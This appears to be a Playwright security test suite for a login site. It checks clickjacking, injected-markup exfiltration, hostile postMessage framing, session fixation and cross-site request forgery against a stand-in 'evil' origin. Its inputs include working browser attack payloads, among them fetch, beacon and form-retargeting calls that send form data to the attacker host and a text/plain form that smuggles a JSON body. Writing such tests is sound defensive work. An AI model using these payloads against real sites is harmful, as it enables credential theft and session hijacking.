import { expect, test } from '../support/attack-test.ts';
import { expectScreen, fillIn, landingOf, screenOn, signIn } from '../support/login-page.ts';
import { personOf } from '../support/sandbox.ts';

test('clickjacking: no page shows inside a frame, whatever the frame allows', { tag: '@ci' }, async ({
  page,
  site: { sandbox, evil },
}) => {
  const { kq } = sandbox.brands;
  for (const path of [
    '/',
    '/?lang=de',
    '/reset',
    '/force-password',
    '/assets/none.js',
    '/configs/config.json',
  ])
    for (const sandboxed of ['', 'sandbox="allow-forms allow-scripts allow-same-origin"']) {
      evil.pages.set('/', `<iframe ${sandboxed} src="${kq}${path}"></iframe>`);
      await page.goto(evil.origin, { waitUntil: 'load' });
      await expect.poll(() => page.frames().length).toBe(2);
      expect(await page.frames()[1]?.locator('main, pre').count(), path).toBe(0);
    }
});

test('markup that got into the page sends nothing to another site', { tag: '@ci' }, async ({
  page,
  site: { sandbox, evil },
}) => {
  await page.goto(`${sandbox.brands.kq}/`);
  await fillIn(page, { username: 'canary', password: 'Canary-123' });
  await page.evaluate(
    ({ origin }) => {
      const add = (tag: string, attributes: Record<string, string>, where: Element = document.body) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes))
          try {
            element.setAttribute(name, value);
          } catch {
            // Trusted Types reject some of these attributes.
          }
        where.append(element);
        return element;
      };
      const [form] = document.forms;
      if (form === undefined) throw new Error('no form');
      form.id = 'theirs';
      add('base', { href: `${origin}/base/` }, document.head);
      add('button', { form: 'theirs', formaction: `${origin}/formaction`, id: 'bait', type: 'submit' });
      for (const input of form.querySelectorAll('input')) input.name = input.name || 'named';
      add('img', { src: `${origin}/img` });
      add('link', { rel: 'stylesheet', href: `${origin}/css` }, document.head);
      add('link', { rel: 'prefetch', href: `${origin}/prefetch` }, document.head);
      add('link', { rel: 'preload', as: 'script', href: `${origin}/preload` }, document.head);
      add('iframe', { src: `${origin}/iframe` });
      add('object', { data: `${origin}/object` });
      add('embed', { src: `${origin}/embed` });
      add('video', { src: `${origin}/video`, autoplay: '' });
      add('script', { src: `${origin}/script` });
      add('div', { style: `background:url(${origin}/style)` });
      add('link', { rel: 'manifest', href: `${origin}/manifest` }, document.head);
      const quiet = (act: () => unknown): void => {
        try {
          Promise.resolve(act()).catch(() => undefined);
        } catch {
          // Blocked, as expected.
        }
      };
      quiet(() => fetch(`${origin}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x' }));
      quiet(() => navigator.sendBeacon(`${origin}/beacon`, 'x'));
      quiet(() => new EventSource(`${origin}/events`));
      quiet(() => new WebSocket(`${origin.replace('http', 'ws')}/socket`));
      quiet(() => new Worker(`${origin}/worker`));
      // Sends the form without a submit event, so the page's own handler cannot stop it.
      form.action = `${origin}/form`;
      form.method = 'post';
      HTMLFormElement.prototype.submit.call(form);
    },
    { origin: evil.origin },
  );
  await page.evaluate(() => document.querySelector<HTMLElement>('#bait')?.click());
  await page.waitForTimeout(1_000);
  expect(evil.asked).toEqual([]);
});

test('the provider’s frame: its messages change nothing, and it leads the page nowhere', {
  tag: '@ci',
}, async ({ page, context, site: { sandbox, evil } }) => {
  const hostile = `<title>waiting</title><script>
    const attempt = (act) => { try { act(); } catch {} };
    for (const message of ['close', 'login', 'resize', '*', { type: 'close' }, { type: 'resize', height: 99999 },
      { type: 'navigate', url: '${evil.origin}/message' }, { session: 'x', event: 'signed-in' }, { __proto__: null, owned: 1 },
      JSON.stringify({ type: 'password-reset', redirect: '${evil.origin}/message' }), null, 7])
      attempt(() => parent.postMessage(message, '*'));
    attempt(() => { top.location = '${evil.origin}/top'; });
    attempt(() => { parent.location.href = '${evil.origin}/parent'; });
    attempt(() => parent.document.title = 'owned');
    attempt(() => window.open('${evil.origin}/open'));
    attempt(() => parent.history.pushState({}, '', '/owned'));
    for (const target of ['_top', '_parent', '_blank']) attempt(() => {
      const form = document.createElement('form');
      Object.assign(form, { action: '${evil.origin}/' + target, target });
      document.documentElement.append(form);
      form.submit();
    });
    attempt(() => alert('Your session has ended'));
    document.title = 'done';
  </script>`;
  await page.route(
    ({ origin }) => origin === sandbox.home,
    (route) => route.fulfill({ contentType: 'text/html', body: hostile }),
  );
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  const address = `${sandbox.brands.kq}/reset`;
  await page.goto(address);
  await expectScreen(page, 'reset');
  const frame = page.locator('main[data-screen=reset] iframe');
  await expect.poll(() => frame.contentFrame().locator('title').textContent()).toBe('done');
  await page.waitForTimeout(500);
  expect(page.url()).toBe(address);
  await expect(screenOn(page, 'reset')).toBeVisible();
  expect((await frame.boundingBox())?.height).toBe(530);
  expect(await page.title()).not.toBe('owned');
  expect([context.pages().length, dialogs]).toEqual([1, 0]);
  expect(evil.asked).toEqual([]);
});

test('fixation: what was planted before is not the session that begins', { tag: '@ci' }, async ({
  page,
  context,
  site: { sandbox },
}) => {
  const { kq } = sandbox.brands;
  const cookies = ['session', 'CST', 'SESSIONID', 'XSRF-TOKEN'].map((name) => ({
    name,
    value: 'planted0123456789',
    url: kq,
  }));
  await context.addCookies(cookies);
  await page.goto(`${kq}/`);
  // Replaces everything that the page has stored, and adds more.
  await page.evaluate(() => {
    for (const store of [localStorage, sessionStorage]) {
      const names = [...Object.keys(store), 'session', 'token', 'CST', 'UserName', 'account'];
      for (const name of names) store.setItem(name, JSON.stringify({ session: 'planted', value: 'planted' }));
    }
    history.replaceState({ session: 'planted', key: 'planted', username: 'planted' }, '');
  });
  await page.goto(`${kq}/?session=planted&CST=planted`);
  await signIn(page, personOf(sandbox, 'plain'));
  const landing = await landingOf(page);
  expect(landing.problems).toEqual([]);
  expect(JSON.stringify(landing.values)).not.toContain('planted');
});

test('another site’s page cannot sign its visitor in: no call of it arrives', { tag: '@ci' }, async ({
  page,
  context,
  site: { sandbox, server, evil },
}) => {
  const { kq } = sandbox.brands;
  const isSession = (line: string): boolean => line.includes('/v2/Session');
  const logged = async () => (await server.log()).split('\n').filter(isSession);
  // nginx writes its log once a second.
  await page.waitForTimeout(1_100);
  const before = (await logged()).length;
  await page.goto(kq);
  const token = (await context.cookies(kq)).find(({ name }) => name === 'XSRF-TOKEN')?.value ?? '';
  expect(token).not.toBe('');
  await page.goto(evil.origin);
  const { username, password } = personOf(sandbox, 'plain');
  const body = JSON.stringify({ UserName: username, Password: password, AppKey: 'Mercury', AppVersion: '1' });
  for (const api of ['/api/v2/Session', '/api-ppe/v2/Session']) {
    const answers = await page.evaluate(
      async ({ address, body, token }) => {
        const send = (init: RequestInit) =>
          fetch(address, { method: 'POST', credentials: 'include', body, ...init }).then(
            ({ status, type }) => `${type} ${status}`,
            () => 'refused',
          );
        const json = { 'content-type': 'application/json' };
        return [
          await send({ headers: { ...json, 'x-xsrf-token': token } }),
          await send({ headers: { 'content-type': 'text/plain', 'x-xsrf-token': token } }),
          await send({ headers: { 'content-type': 'text/plain' }, mode: 'no-cors' }),
          await send({ headers: json }),
        ];
      },
      { address: `${kq}${api}`, body, token },
    );
    expect(answers, 'none can be read').toEqual(Array(4).fill('refused'));
    const [name, value] = [body.slice(0, -1), '"}'];
    evil.pages.set(
      '/form',
      `<form method="post" enctype="text/plain" action="${kq}${api}"><input name='${name},"x":"' value='${value}'></form>`,
    );
    await page.goto(`${evil.origin}/form`);
    await Promise.all([page.waitForURL(`${kq}${api}`), page.evaluate(() => document.forms[0]?.submit())]);
    await page.goto(evil.origin);
  }
  // For each of the two APIs, at least a simple request and a form reach nginx. Calls that need a preflight request do not.
  await expect.poll(async () => (await logged()).length).toBeGreaterThanOrEqual(before + 4);
  const answers = (await logged()).slice(before).map((line) => JSON.parse(line));
  expect(answers.filter(({ apiStatus, status }) => apiStatus !== '' || status < 400)).toEqual([]);
});
